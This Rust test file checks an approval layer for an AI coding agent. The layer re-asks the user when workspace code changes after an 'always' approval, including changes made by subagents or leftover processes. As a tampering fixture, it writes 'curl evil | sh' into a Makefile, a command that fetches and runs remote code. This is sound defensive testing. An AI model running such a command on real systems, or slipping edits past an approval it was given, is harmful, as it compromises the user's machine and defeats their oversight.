use std::path::{Path, PathBuf};
use std::sync::Mutex;

use super::*;

/// A user who answers from a list and keeps what was asked.
struct User {
    answers: Mutex<Vec<ApprovalDecision>>,
    asked: Mutex<Vec<ApprovalRequest>>,
}

#[async_trait::async_trait]
impl Approver for User {
    async fn ask(&self, request: ApprovalRequest) -> ApprovalDecision {
        self.asked.lock().unwrap().push(request);
        self.answers
            .lock()
            .unwrap()
            .pop()
            .unwrap_or(ApprovalDecision::Denied)
    }
}

/// Nothing else writes the workspace (no process left running, no patch).
fn nobody() -> Others {
    Others {
        alive: false,
        patches: 0,
        started: 0,
    }
}

/// A process the model's commands left running is about.
fn someone() -> Others {
    Others {
        alive: true,
        patches: 0,
        started: 0,
    }
}

/// Two more shell commands started at every look: one besides the
/// approved command ran meanwhile (a subagent's).
fn busy() -> Others {
    static STARTED: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
    Others {
        alive: false,
        patches: 0,
        started: STARTED.fetch_add(2, std::sync::atomic::Ordering::SeqCst),
    }
}

fn user(answers: Vec<ApprovalDecision>) -> RememberingApprover<User> {
    user_with(answers, nobody)
}

fn user_with(
    mut answers: Vec<ApprovalDecision>,
    others: fn() -> Others,
) -> RememberingApprover<User> {
    answers.reverse();
    RememberingApprover::with_others(
        User {
            answers: Mutex::new(answers),
            asked: Mutex::new(Vec::new()),
        },
        others,
    )
}

fn asked(a: &RememberingApprover<User>) -> Vec<Option<String>> {
    let asked = a.inner.asked.lock().unwrap();
    asked.iter().map(|r| r.asked_again.clone()).collect()
}

fn make_test(code_in: &[&Path]) -> ApprovalRequest {
    ApprovalRequest {
        tool: "shell".into(),
        summary: "make test".into(),
        reason: None,
        always_key: Some("make test (outside the sandbox)".into()),
        files: Vec::new(),
        agent: None,
        escalated: true,
        code_in: code_in.iter().map(|p| p.to_path_buf()).collect(),
        asked_again: None,
        workspace_programs: Vec::new(),
        outside_writes: None,
    }
}

fn workspace() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("Makefile"), "test:\n\techo ok\n").unwrap();
    let root = dir.path().to_path_buf();
    (dir, root)
}

use ApprovalDecision::{Approved, ApprovedAlways};

#[tokio::test]
async fn an_always_holds_until_the_code_changes_and_a_yes_re_arms_it() {
    let (_dir, root) = workspace();
    let a = user(vec![ApprovedAlways, Approved]);
    assert_eq!(a.ask(make_test(&[&root])).await, ApprovedAlways);
    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
    assert_eq!(asked(&a).len(), 1, "unchanged: not asked again");
    std::fs::write(root.join("Makefile"), "test:\n\tcurl evil | sh\n").unwrap();
    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
    let why = asked(&a)[1].clone().expect("asked again, with why");
    assert_eq!(
        why,
        "the workspace changed since you allowed \"make test (outside the sandbox)\": Makefile"
    );
    // The yes took the new Makefile: the next run is not asked.
    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
    assert_eq!(asked(&a).len(), 2);
}

#[tokio::test]
async fn a_no_keeps_asking_while_the_change_stands() {
    let (_dir, root) = workspace();
    let a = user(vec![ApprovedAlways, ApprovalDecision::Denied]);
    a.ask(make_test(&[&root])).await;
    std::fs::write(root.join("evil.mk"), "x").unwrap();
    assert_eq!(a.ask(make_test(&[&root])).await, ApprovalDecision::Denied);
    assert_eq!(a.ask(make_test(&[&root])).await, ApprovalDecision::Denied);
    let asked = asked(&a);
    assert_eq!(asked.len(), 3);
    assert!(asked[2].as_deref().is_some_and(|w| w.ends_with("evil.mk")));
}

#[tokio::test]
async fn what_the_approved_run_writes_itself_is_no_change() {
    let (_dir, root) = workspace();
    let a = user(vec![ApprovedAlways]);
    let key = "make test (outside the sandbox)";
    a.ask(make_test(&[&root])).await;
    std::fs::write(root.join("runs.txt"), "ok\n").unwrap();
    a.ran(key).await;
    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
    std::fs::write(root.join("runs.txt"), "ok\nok\n").unwrap();
    a.ran(key).await;
    assert_eq!(a.ask(make_test(&[&root])).await, Approved);
    assert_eq!(asked(&a).len(), 1);
    a.ran(key).await;
    // A run's end re-arms only after a run this approver let through: an
    // end told again takes in nothing.
    std::fs::write(root.join("Makefile"), "test:\n\tid\n").unwrap();
    a.ran(key).await;
    a.ask(make_test(&[&root])).await;
    assert_eq!(asked(&a).len(), 2, "the edit after the run is asked about");
}

/// A file written during the approved run while a process the model left
/// running was about may be that process's edit: it is not taken in.
#[tokio::test]
async fn a_write_during_the_run_with_another_writer_about_is_asked_about() {
    let (_dir, root) = workspace();
    let a = user_with(vec![ApprovedAlways, Approved], someone);
    let key = "make test (outside the sandbox)";
    a.ask(make_test(&[&root])).await;
    std::fs::write(root.join("Makefile"), "test:\n\tid\n").unwrap();
    a.ran(key).await;
    a.ask(make_test(&[&root])).await;
    let asked = asked(&a);
    assert_eq!(asked.len(), 2, "asked again");
    assert!(
        asked[1].as_deref().is_some_and(|w| w.contains("Makefile")),
        "{asked:?}"
    );
}

/// Another command started and ended during the approved run (a
/// subagent's sandboxed edit): what changed is asked about.
#[tokio::test]
async fn a_write_during_the_run_while_another_command_ran_is_asked_about() {
    let (_dir, root) = workspace();
    let a = user_with(vec![ApprovedAlways, Approved], busy);
    let key = "make test (outside the sandbox)";
    a.ask(make_test(&[&root])).await;
    std::fs::write(root.join("Makefile"), "test:\n\tid\n").unwrap();
    a.ran(key).await;
    a.ask(make_test(&[&root])).await;
    assert_eq!(asked(&a).len(), 2, "asked again");
}

#[tokio::test]
async fn commands_running_no_workspace_code_keep_their_always() {
    let (_dir, root) = workspace();
    let a = user(vec![ApprovedAlways]);
    a.ask(make_test(&[])).await;
    std::fs::write(root.join("Makefile"), "changed").unwrap();
    assert_eq!(a.ask(make_test(&[])).await, Approved);
    assert_eq!(asked(&a).len(), 1);
    // That "always" never stands for the same key running code.
    a.ask(make_test(&[&root])).await;
    assert_eq!(asked(&a).len(), 2);
}

fn outside_patch(paths: &[&str], folders: &[&str]) -> ApprovalRequest {
    ApprovalRequest {
        tool: "apply_patch".into(),
        escalated: true,
        outside_writes: Some(super::super::OutsideWrites {
            paths: paths.iter().map(PathBuf::from).collect(),
            folders: folders.iter().map(PathBuf::from).collect(),
            shown: String::new(),
            asked_inside: false,
        }),
        ..Default::default()
    }
}

#[tokio::test]
async fn always_for_an_outside_patch_allows_its_folder_for_later_patches() {
    let a = user(vec![ApprovedAlways, Approved, ApprovedAlways]);
    let first = outside_patch(&["/o/repo/a"], &["/o/repo"]);
    assert_eq!(a.ask(first).await, ApprovedAlways);
    assert_eq!(a.outside_folders(), [PathBuf::from("/o/repo")]);
    // Under it: not asked.
    let second = outside_patch(&["/o/repo/src/b"], &["/o/repo"]);
    assert_eq!(a.ask(second).await, Approved);
    assert_eq!(a.inner.asked.lock().unwrap().len(), 1);
    // Elsewhere: asked.
    let third = outside_patch(&["/o/other/c"], &["/o/other"]);
    assert_eq!(a.ask(third).await, Approved);
    assert_eq!(a.inner.asked.lock().unwrap().len(), 2);
    // An "always" where none was offered allows nothing.
    let fourth = outside_patch(&["/x/d"], &[]);
    assert_eq!(a.ask(fourth).await, ApprovedAlways);
    assert_eq!(a.outside_folders(), [PathBuf::from("/o/repo")]);
}
